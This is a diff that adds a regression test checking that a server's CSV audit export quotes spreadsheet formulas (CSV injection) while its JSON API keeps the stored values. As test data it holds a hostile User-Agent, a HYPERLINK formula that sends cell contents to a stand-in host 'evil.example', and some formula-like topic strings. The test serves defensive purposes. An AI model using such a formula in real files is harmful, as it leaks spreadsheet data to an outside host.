@@ -226,3 +226,25 @@ async def test_export_streams_every_page(make_server, monkeypatch):
     assert tuple(lines[0]) == FIELDS
     assert [r[FIELDS.index("topic")] for r in lines[1:]] == CALLS[:5]
     assert [int(r[0]) for r in lines[1:]] == [1, 2, 3, 4, 5]
+
+
+@pytest.mark.gen_test(timeout=30)
+async def test_export_quotes_what_a_spreadsheet_would_run(make_server):
+    # The review's finding: a client's User-Agent landed in the CSV as a live formula.
+    hostile_ua = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+    server = await make_server(audit={"api_keys": [REVIEW_KEY]})
+    client = await server.connect("admin-token", headers={"User-Agent": hostile_ua})
+    reply = await client.subscribe(CALLS[0], "-1+2", "@SUM(A1)", "+1")
+    assert [r["code"] for r in reply["rejected"]] == ["invalid_topic"] * 3
+    http = tornado.httpclient.AsyncHTTPClient()
+    response = await http.fetch(server.base + "/v1.0/audit/export.csv",
+                                headers={"Authorization": f"Bearer {REVIEW_KEY}"})
+    rows = list(csv.DictReader(io.StringIO(response.body.decode(), newline="")))
+    assert [r["topic"] for r in rows] == [CALLS[0], "'-1+2", "'@SUM(A1)", "'+1"]
+    assert {r["user_agent"] for r in rows} == {"'" + hostile_ua}
+    assert rows[0]["code"] == "" and rows[0]["outcome"] == "accepted"  # empty: empty cell
+    # The JSON API shows the same rows exactly as stored, empty as null.
+    rows = await server_rows(server, expect=4)
+    assert [r["topic"] for r in rows] == [CALLS[0], "-1+2", "@SUM(A1)", "+1"]
+    assert {r["user_agent"] for r in rows} == {hostile_ua}
+    assert rows[0]["code"] is None
